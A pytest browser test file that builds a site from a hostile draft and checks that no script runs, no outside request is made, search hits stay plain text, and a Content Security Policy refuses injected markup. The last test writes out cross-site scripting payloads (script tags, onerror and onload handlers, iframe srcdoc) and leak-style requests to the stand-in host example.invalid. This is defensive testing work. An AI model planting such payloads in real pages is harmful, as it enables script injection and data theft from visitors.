"""A draft from a stranger in a real browser: nothing runs, nothing is asked of another machine."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from drafts import write_standard
from gbt.workspace import Workspace, build_workspace
from hostile_text import DRAFT, FACTS, FILES, MARK

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def html(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    workspace = Path(__file__).parents[2]
    shutil.copy(workspace / "conf.py", root)
    shutil.copytree(workspace / "domains", root / "domains")
    write_standard(root, DRAFT, facts=FACTS, files=FILES)
    build_workspace(Workspace(root), ("html",))
    return root / "build" / "html"


def provoke(browser) -> None:
    """Do what a reader might: point at, focus and click everything that is not a link away."""
    browser.run(
        """
        for (const element of document.querySelectorAll('body *')) {
          for (const kind of ['pointerover', 'mouseover', 'mouseenter', 'focus', 'focusin'])
            element.dispatchEvent(new Event(kind, {bubbles: true}));
          if (element.matches('a[href^="#"], button')) element.click();
        }
        """
    )
    browser.until("return new Promise(done => setTimeout(() => done(true), 300))")


@pytest.mark.parametrize("page", ["meal/index.html", "index.html", "domains/index.html"])
def test_nothing_runs_and_nothing_is_asked_elsewhere(browser, html, page) -> None:
    browser.open(html / page)
    browser.until("return document.documentElement.classList.contains('js')")
    provoke(browser)
    assert browser.run(f"return window.{MARK}") is None
    assert [url for url in browser.requests() if not url.startswith(("file:", "data:", "about:"))] == []
    # no style or script was even tried in place: the policy had nothing to refuse
    assert [text for text in browser.complaints() if "Content Security Policy" in text] == []


def test_hits_of_a_search_are_text(browser, html) -> None:
    browser.open(html / "index.html")
    browser.type("script")
    browser.until("return document.querySelectorAll('.hit').length > 3")
    assert browser.all(".search-panel script, .search-panel img, .search-panel svg") == []
    assert browser.run(f"return window.{MARK}") is None


def test_the_policy_holds_even_if_markup_slipped_through(browser, html) -> None:
    slipped = html / "slipped.html"
    text = (html / "meal" / "index.html").read_text("utf-8")
    evil = (
        f"<script>window.{MARK}=1</script><img src=x onerror='window.{MARK}=2'>"
        f"<img src='https://example.invalid/leak.png'><iframe srcdoc='<script>top.{MARK}=3</script>'></iframe>"
        f"<svg onload='window.{MARK}=4'></svg><link rel=stylesheet href='https://example.invalid/leak.css'>"
        "<form action='https://example.invalid/leak'><input name=a></form>"
    )
    slipped.write_text(text.replace("</main>", evil + "</main>"), encoding="utf-8")
    browser.open(slipped)
    browser.run("document.querySelector('form[action]').submit()")
    browser.until("return new Promise(done => setTimeout(() => done(true), 500))")
    assert browser.run(f"return window.{MARK}") is None
    assert browser.run("return location.protocol") == "file:"
    refused = [text for text in browser.complaints() if "Content Security Policy" in text]
    assert len(refused) >= 5
